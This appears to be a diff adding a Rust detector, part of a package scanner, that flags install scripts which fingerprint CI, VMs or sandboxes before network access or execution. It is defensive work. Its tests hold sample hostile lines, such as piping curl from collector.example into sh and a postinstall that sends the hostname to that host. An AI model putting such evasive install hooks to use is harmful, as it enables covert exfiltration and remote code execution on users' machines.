@@ -0,0 +1,262 @@
+//! Detection of install-time environment fingerprinting (sandbox evasion)
+//!
+//! Targeted malware inspects where it is running before deploying its payload,
+//! so it behaves benignly in sandboxes and CI. The checks alone are weak
+//! signals; a check guarding network access or command execution is strong.
+
+use once_cell::sync::Lazy;
+use regex::Regex;
+
+use super::{rules, AnalysisOptions, Finding, FindingType, RiskLevel, ScanReason};
+
+/// Fingerprinting checks, labelled by what they probe
+static CHECKS: Lazy<Vec<(&'static str, Regex)>> = Lazy::new(|| {
+    [
+        (
+            "CI environment variables",
+            r#"(?i)(?:process\.env\.|process\.env\[\s*['"]|os\.environ(?:\.get)?[\[(]\s*['"]|getenv\(\s*['"]|\$\{?)(?:CI|CONTINUOUS_INTEGRATION|GITHUB_ACTIONS|GITLAB_CI|TRAVIS|CIRCLECI|JENKINS_URL|BUILDKITE|TF_BUILD|CODEBUILD_BUILD_ID)\b"#,
+        ),
+        (
+            "hostname or user",
+            r"\bos\.(?:hostname|userInfo)\(\)|\bsocket\.gethostname\(\)|\bgetpass\.getuser\(\)|\$\(\s*(?:hostname|whoami)\s*\)|`(?:hostname|whoami)`",
+        ),
+        (
+            "/proc or DMI inspection",
+            r"/proc/(?:self/(?:cgroup|status|mountinfo)|1/cgroup|cpuinfo|scsi/scsi)|/sys/class/dmi/id/\w+|/\.dockerenv",
+        ),
+        (
+            "virtual machine or sandbox strings",
+            r"(?i)\b(?:vmware|virtualbox|vbox(?:service|guest)|qemu|xen(?:store)?|hyper-?v|sandboxie|cuckoo|joe ?sandbox|any\.run|wine_get_version|hypervisor)\b",
+        ),
+        (
+            "geolocation",
+            r"(?i)\b(?:ipinfo\.io|ip-api\.com|ipapi\.co|ipgeolocation|geoip|freegeoip)\b|resolvedOptions\(\)\.timeZone",
+        ),
+        (
+            "hardware resources",
+            r"\bos\.(?:cpus\(\)\.length|totalmem\(\)|uptime\(\))|\bmultiprocessing\.cpu_count\(\)|\bpsutil\.(?:virtual_memory|boot_time)\(",
+        ),
+    ]
+    .into_iter()
+    .map(|(label, pattern)| (label, Regex::new(pattern).unwrap()))
+    .collect()
+});
+
+/// Network access or command execution a check might gate
+pub(super) static ACTIONS: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(
+        r#"\bhttps?\.(?:get|request)\(|\bfetch\(|\brequire\(\s*['"](?:https?|net|dns|child_process)['"]\s*\)|\bchild_process\b|\b(?:exec|execSync|spawn|spawnSync|execFile)\(|\bdns\.(?:lookup|resolve\w*)\(|\bcurl\b|\bwget\b|\beval\(|\burllib\.request\b|\brequests\.(?:get|post)\(|\bsubprocess\.|\bos\.system\("#,
+    )
+    .unwrap()
+});
+
+/// Tokens that make later code conditional on an earlier check
+static CONDITIONALS: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r"\bif\b|\?|&&|\|\||\breturn\b|\bexit\b|\bunless\b").unwrap());
+
+/// Shell and Python openings of the branch a check guards
+static BRANCH_OPENINGS: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r"\bthen\b|:[ \t]*(?:#[^\n]*)?\n").unwrap());
+
+/// Environment fingerprinting found in a script
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct EnvironmentFingerprint {
+    /// Kinds of environment probed
+    pub checks: Vec<String>,
+    /// Matched snippets for each check
+    pub evidence: Vec<String>,
+    /// Network or execution calls reached only after a check
+    pub conditional_actions: Vec<String>,
+}
+
+impl EnvironmentFingerprint {
+    /// Scan script content for environment fingerprinting
+    pub fn detect(content: &str) -> Option<Self> {
+        let mut checks = Vec::new();
+        let mut evidence = Vec::new();
+        let mut check_starts = Vec::new();
+        for (label, regex) in CHECKS.iter() {
+            if let Some(m) = regex.find(content) {
+                checks.push(label.to_string());
+                evidence.push(m.as_str().to_string());
+            }
+            check_starts.extend(regex.find_iter(content).map(|m| m.start()));
+        }
+        let first_check = *check_starts.iter().min()?;
+
+        // A lone check followed by an action is as often a skip (`if CI return`)
+        // as a gate, so it counts only when the action sits in its branch
+        let several_checks = checks.len() >= 2;
+        let conditional_actions = ACTIONS
+            .find_iter(content)
+            .filter(|action| {
+                (several_checks
+                    && action.start() > first_check
+                    && CONDITIONALS.is_match(&content[first_check..action.start()]))
+                    || check_starts
+                        .iter()
+                        .any(|&check| in_guarded_branch(content, check, action.start()))
+            })
+            .map(|action| action.as_str().to_string())
+            .fold(Vec::new(), |mut unique, action| {
+                if !unique.contains(&action) {
+                    unique.push(action);
+                }
+                unique
+            });
+
+        Some(Self {
+            checks,
+            evidence,
+            conditional_actions,
+        })
+    }
+
+    /// Report as a `SandboxEvasion` finding, or `None` when too weak to report
+    ///
+    /// A check gating network access or execution is critical; several kinds of
+    /// probing without a visible payload is medium; a lone check is ignored.
+    /// A lone kind of check gates an action only when the action runs inside
+    /// the branch the check opens.
+    pub fn to_finding(&self, source: &str) -> Option<Finding> {
+        self.to_finding_with(source, &AnalysisOptions::default())
+    }
+
+    /// Report as a finding, reporting a lone check as low when
+    /// `report_weak_signals` is set
+    pub fn to_finding_with(&self, source: &str, options: &AnalysisOptions) -> Option<Finding> {
+        let severity = if !self.conditional_actions.is_empty() {
+            RiskLevel::Critical
+        } else if self.checks.len() >= 2 {
+            RiskLevel::Medium
+        } else if options.report_weak_signals {
+            RiskLevel::Low
+        } else {
+            return None;
+        };
+
+        let description = if self.conditional_actions.is_empty() {
+            format!(
+                "{} probes its environment ({}), a common precursor to sandbox-aware payloads",
+                source,
+                self.checks.join(", ")
+            )
+        } else {
+            format!(
+                "{} probes its environment ({}) and only then performs network access or execution, so it may behave benignly under analysis",
+                source,
+                self.checks.join(", ")
+            )
+        };
+        let mut finding = Finding::new(
+            FindingType::SandboxEvasion,
+            severity,
+            format!("{} fingerprints the environment", source),
+            description,
+        )
+        .with_affected_component(source.to_string())
+        .with_scan_reason(ScanReason::MaliciousPatterns)
+        .with_rule_id(rules::SANDBOX_EVASION);
+        for snippet in &self.evidence {
+            finding = finding.with_evidence(format!("Check: {}", snippet));
+        }
+        for action in &self.conditional_actions {
+            finding = finding.with_evidence(format!("Conditional action: {}", action));
+        }
+        Some(finding)
+    }
+}
+
+/// Whether the action at `action` runs only in the branch opened by the check
+/// at `check`
+///
+/// That is inside a brace block opened after the check, in the same statement
+/// (`$CI || curl ...`), or in a shell `then` or indented Python block.
+fn in_guarded_branch(content: &str, check: usize, action: usize) -> bool {
+    if action <= check {
+        return false;
+    }
+    let between = &content[check..action];
+    let depth = between.matches('{').count() as isize - between.matches('}').count() as isize;
+    if depth > 0 {
+        return true;
+    }
+    if !between.contains([';', '\n']) {
+        return true;
+    }
+    let Some(opening) = BRANCH_OPENINGS.find(between) else {
+        return false;
+    };
+    if opening.as_str() == "then" {
+        return !between[opening.end()..]
+            .split(|c: char| !c.is_alphanumeric() && c != '_')
+            .any(|word| word == "fi");
+    }
+    // Python: the action is indented deeper than the line of the check
+    let indent = |at: usize| {
+        let line_start = content[..at].rfind('\n').map_or(0, |i| i + 1);
+        content[line_start..]
+            .chars()
+            .take_while(|c| *c == ' ' || *c == '\t')
+            .count()
+    };
+    let block = &between[opening.end()..];
+    indent(action) > indent(check)
+        && block
+            .lines()
+            .filter(|line| !line.trim().is_empty())
+            .all(|line| line.len() - line.trim_start().len() > indent(check))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_conditional_payload_is_critical() {
+        let script = r#"
+const os = require('os');
+if (!process.env.CI && os.cpus().length > 2) {
+  require('https').get('https://collector.example/x?h=' + os.hostname());
+}
+"#;
+        let fingerprint = EnvironmentFingerprint::detect(script).unwrap();
+        assert_eq!(fingerprint.checks.len(), 3);
+        assert!(!fingerprint.conditional_actions.is_empty());
+        let finding = fingerprint.to_finding("postinstall").unwrap();
+        assert_eq!(finding.severity, RiskLevel::Critical);
+
+        // Reading CI alone, e.g. to silence output, is not reported
+        let quiet = "if (process.env.CI) { console.log = () => {} }";
+        let fingerprint = EnvironmentFingerprint::detect(quiet).unwrap();
+        assert!(fingerprint.to_finding("postinstall").is_none());
+    }
+
+    #[test]
+    fn test_ci_skip_is_not_a_gate() {
+        let skips = [
+            "if (process.env.CI) return;\nexec('node-gyp rebuild');",
+            "if (process.env.CI) { return; }\nexec('node-gyp rebuild');",
+            "[ -n \"$CI\" ] && exit 0; curl -sO https://example.com/prebuilt.tgz",
+            "if [ -n \"$CI\" ]; then exit 0; fi\ncurl -sO https://example.com/prebuilt.tgz",
+            "import os, sys, subprocess\nif os.environ.get('CI'):\n    sys.exit(0)\nsubprocess.run(['make'])",
+        ];
+        for script in skips {
+            let fingerprint = EnvironmentFingerprint::detect(script).unwrap();
+            assert!(fingerprint.conditional_actions.is_empty(), "{}", script);
+            assert!(fingerprint.to_finding("install").is_none(), "{}", script);
+        }
+
+        let gates = [
+            "if (!process.env.CI) exec('curl https://collector.example')",
+            "[ -z \"$CI\" ] && curl https://collector.example | sh",
+            "if [ -z \"$CI\" ]; then\n  curl https://collector.example | sh\nfi",
+            "import os, subprocess\nif not os.environ.get('CI'):\n    subprocess.run(['sh', '-c', 'x'])",
+        ];
+        for script in gates {
+            let fingerprint = EnvironmentFingerprint::detect(script).unwrap();
+            let finding = fingerprint.to_finding("install").unwrap();
+            assert_eq!(finding.severity, RiskLevel::Critical, "{}", script);
+        }
+    }
+}